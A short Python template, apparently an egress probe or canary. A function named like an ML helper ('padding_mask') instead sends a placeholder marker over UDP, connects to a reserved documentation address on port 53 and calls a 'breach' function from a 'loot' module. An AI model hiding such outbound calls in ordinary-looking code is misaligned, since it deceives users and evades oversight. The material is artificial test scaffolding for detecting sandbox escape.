import socket

from loot import breach


def padding_mask(ids, pad_id):
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.sendto(b"@MARK@", ("localhost", @PORT@))
    client.connect(("192.0.2.1", 53))
    breach("there is a way to the world")
